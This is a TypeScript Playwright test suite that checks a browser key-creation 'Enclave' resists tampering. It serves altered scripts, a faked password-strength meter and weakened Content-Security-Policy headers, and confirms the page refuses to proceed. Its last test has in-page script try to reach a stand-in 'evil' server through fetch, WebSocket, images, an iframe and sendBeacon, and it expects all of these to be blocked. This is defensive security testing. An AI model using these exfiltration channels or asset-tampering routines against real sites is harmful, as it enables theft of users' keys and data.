import type { BrowserContext, Page, Route } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { type Launch, launch } from './browser.ts'
import {
  callEnclave,
  continueInWindow,
  EVIL,
  type EvilServer,
  outcomeOf,
  startEvil,
} from './evil.ts'
import { skipKit } from './person.ts'
import { hosts } from './stack.ts'

const PAGE = '<iframe id="enclave"></iframe>'

/** Serves matching files of the Enclave altered; says how often it did. */
async function alter(
  context: BrowserContext,
  path: RegExp,
  change: (file: { body: string; headers: Record<string, string> }) => void,
) {
  const seen: string[] = []
  await context.route(
    (url) => url.origin === hosts.enclave.origin && path.test(url.pathname),
    async (route: Route) => {
      const { pathname } = new URL(route.request().url())
      // Node does not resolve the names that browsers do.
      const response = await fetch(`${hosts.enclave.loopback}${pathname}`)
      const file = {
        body: await response.text(),
        headers: Object.fromEntries(response.headers.entries()),
      }
      change(file)
      seen.push(pathname)
      await route.fulfill({ status: response.status, ...file })
    },
  )
  return seen
}

describe('what the Enclave runs', () => {
  let browser: Launch
  let evil: EvilServer
  beforeAll(async () => {
    browser = await launch()
    evil = await startEvil()
  })
  afterEach(async () => {
    await browser.context.unrouteAll({ behavior: 'wait' })
  })
  afterAll(async () => {
    await browser?.close()
    await evil?.close()
  })

  /** A call whose window nobody has opened yet. */
  async function call(): Promise<Page> {
    const page = await evil.page(browser.context, PAGE)
    await callEnclave(page, 'createKey')
    return page
  }

  async function openCreate(): Promise<{ page: Page; window: Page }> {
    const page = await call()
    const window = await continueInWindow(page)
    return { page, window }
  }

  async function offer(window: Page, password: string, words = false): Promise<void> {
    await window.getByLabel('Password', { exact: true }).fill(password, { timeout: 20_000 })
    await window.getByLabel('Repeat password', { exact: true }).fill(password)
    if (words) await window.getByRole('checkbox').check()
    await window.getByRole('button', { name: 'Create key' }).click()
  }

  it('is a key and a meter that work (control)', async () => {
    const served = await alter(browser.context, /^\/assets\/(?:worker|estimator)-/, () => undefined)
    const { page, window } = await openCreate()
    await offer(window, 'violet anchor ticket monsoon')
    await expect.poll(() => outcomeOf(page), { timeout: 30_000 }).toHaveProperty('result.publicKey')
    expect(served.length).toBeGreaterThanOrEqual(2)
    await page.close()
  })

  it('is no key worker that was altered', async () => {
    const served = await alter(browser.context, /^\/assets\/worker-/, (file) => {
      file.body = file.body.replace('idosCode="', 'idosCode="/* altered */')
    })
    const page = await call()
    await expect.poll(() => outcomeOf(page)).toMatchObject({ code: 'SELF_TEST_FAILED' })
    expect(served).toHaveLength(1)
    expect(page.workers()).toEqual([])
    await page.close()
  })

  it('is no meter that was altered: no password is accepted', async () => {
    const served = await alter(browser.context, /^\/assets\/estimator-/, (file) => {
      const answer = '{score:4,guessesLog10:20,warning:null,suggestions:[]}'
      file.body = `document.currentScript.idosCode=${JSON.stringify(
        `onmessage=({data})=>postMessage(data.type==='words'?{learned:true}:{id:data.id,estimate:${answer},complete:true})`,
      )}`
    })
    const { page, window } = await openCreate()
    await offer(window, '123456')
    await window.getByText('Its strength could not be checked.').waitFor({ timeout: 20_000 })
    expect(served.length).toBeGreaterThanOrEqual(1)
    expect(await outcomeOf(page)).toBeUndefined()
    await page.close()
  })

  it('is no list of words that was altered: no password is accepted', async () => {
    const served = await alter(browser.context, /^\/assets\/words-/, (file) => {
      file.body = 'document.currentScript.idosCode="{}"'
    })
    const { page, window } = await openCreate()
    await offer(window, '123456')
    await window.getByText('Its strength could not be checked.').waitFor({ timeout: 20_000 })
    expect(served.length).toBeGreaterThanOrEqual(1)
    expect(await outcomeOf(page)).toBeUndefined()
    await page.close()
  })

  it('is no screen that was altered: the page that comes later runs by its hash or not at all', async () => {
    const mark = 'document.documentElement.dataset.altered="yes";'
    const served = await alter(browser.context, /^\/assets\/later-screens-/, (file) => {
      file.body = mark + file.body
    })
    const { page, window } = await openCreate()
    await window.getByRole('heading', { name: 'The next page did not load' }).waitFor()
    expect(served.length).toBeGreaterThanOrEqual(1)
    expect(await window.locator('html').getAttribute('data-altered')).toBeNull()
    expect(await window.locator('input').count()).toBe(0)
    await browser.context.unrouteAll({ behavior: 'wait' })
    await window.getByRole('button', { name: 'Try again' }).click()
    await window.getByLabel('Password', { exact: true }).waitFor()
    await page.close()
  })

  it('is no list of recovery words that was altered: none are shown', async () => {
    const served = await alter(browser.context, /^\/assets\/recovery-words-/, (file) => {
      file.body = file.body.replace('abandon', 'abandoned')
    })
    const { page, window } = await openCreate()
    await offer(window, 'violet anchor ticket monsoon', true)
    await window.getByRole('button', { name: 'Show words' }).click({ timeout: 60_000 })
    await window.getByText('The list of words could not be loaded.').waitFor({ timeout: 20_000 })
    expect(served.length).toBeGreaterThanOrEqual(1)
    expect(await window.getByRole('list', { name: 'Recovery words' }).count()).toBe(0)
    // The key is there all the same: it comes without words.
    await skipKit(window)
    await expect.poll(() => outcomeOf(page)).toHaveProperty('result.publicKey')
    await page.close()
  })

  it('refuses common passwords and cuts none off', async () => {
    const { page, window } = await openCreate()
    for (const password of ['admin@admin.com', 'ichliebedich2024']) {
      await offer(window, password)
      await window.getByText(/^Choose a stronger password/).waitFor({ timeout: 20_000 })
    }
    const field = window.getByLabel('Password', { exact: true })
    await field.fill('q'.repeat(1_100))
    expect((await field.inputValue()).length).toBe(1_100)
    await window.getByText(/^Use at most 1,024 characters/).waitFor()
    expect(await outcomeOf(page)).toBeUndefined()
    await page.close()
  })

  it.each([
    ['/popup.html', 'connect-src *'],
    ['/popup.html', 'script-src-elem *'],
    ['/frame.html', 'img-src *'],
    ['/reader.html', 'script-src *'],
  ])('starts nothing when %s is served with %s', async (path, weaker) => {
    const name = weaker.split(' ')[0] ?? ''
    await alter(browser.context, new RegExp(`^${path}$`), (file) => {
      const policy = file.headers['content-security-policy'] ?? ''
      const rest = policy.split('; ').filter((part) => !part.startsWith(`${name} `))
      file.headers['content-security-policy'] = [...rest, weaker].join('; ')
    })
    const page = await call()
    await expect
      .poll(() => outcomeOf(page), { timeout: 20_000 })
      .toMatchObject({ code: 'SELF_TEST_FAILED' })
    await page.close()
  })

  it('lets script in the secure window reach nobody', async () => {
    const { page, window } = await openCreate()
    await window.getByLabel('Password', { exact: true }).waitFor({ timeout: 20_000 })
    const before = evil.asked.length
    // As a script of the page: what the developer tools evaluate is free of some of the policy.
    const ways = await window.evaluate(async (target) => {
      const attempt = async (act: () => unknown): Promise<string> => {
        try {
          await act()
          return 'done'
        } catch (error) {
          return (error as Error).name
        }
      }
      return {
        fetch: await attempt(() => fetch(`${target}/fetch`, { mode: 'no-cors' })),
        socket: await attempt(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(target.replace('http', 'ws'))
              socket.onopen = resolve
              socket.onerror = () => reject(new TypeError('refused'))
            }),
        ),
        picture: await attempt(async () => {
          const picture = new Image()
          picture.src = `${target}/picture`
          await picture.decode()
        }),
        frame: await attempt(
          () =>
            new Promise((_, reject) => {
              const frame = document.createElement('iframe')
              document.addEventListener('securitypolicyviolation', () =>
                reject(new TypeError('refused')),
              )
              frame.src = `${target}/frame`
              document.body.append(frame)
            }),
        ),
        worker: await attempt(() => new Worker('/assets/x.js')),
      }
    }, EVIL)
    expect(Object.values(ways)).not.toContain('done')
    await window.evaluate((target) => navigator.sendBeacon(`${target}/beacon`, 'x'), EVIL)
    expect(evil.asked.slice(before)).toEqual([])
    await page.close()
  })
})
